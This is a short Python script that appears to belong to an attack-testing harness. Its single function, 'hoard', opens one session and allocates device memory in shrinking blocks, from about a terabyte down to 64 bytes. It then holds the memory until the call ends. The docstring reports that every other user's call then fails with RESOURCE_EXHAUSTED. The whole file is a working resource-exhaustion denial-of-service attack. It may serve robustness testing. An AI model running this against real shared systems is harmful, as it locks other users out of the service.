"""One session allocates all the memory of the devices, down to the last bytes, and keeps it.

Cost: 20 bytes, and one connection. Found: every call of everybody else fails (RESOURCE_EXHAUSTED), even those of 8
floats.
"""

from attack import Attack, Target, run
from sessions import Session


def hoard(target: Target) -> None:
    session = Session(target.connect()).begin()
    size, buffer = 1 << 40, 1
    while size >= 64:
        for _ in range(4):
            session.allocate(buffer, size)
            buffer += 1
        size = size * 3 // 4
    session.connection.poll_until(lambda: session.call.ended, target.seconds)


if __name__ == "__main__":
    run(Attack([hoard]))
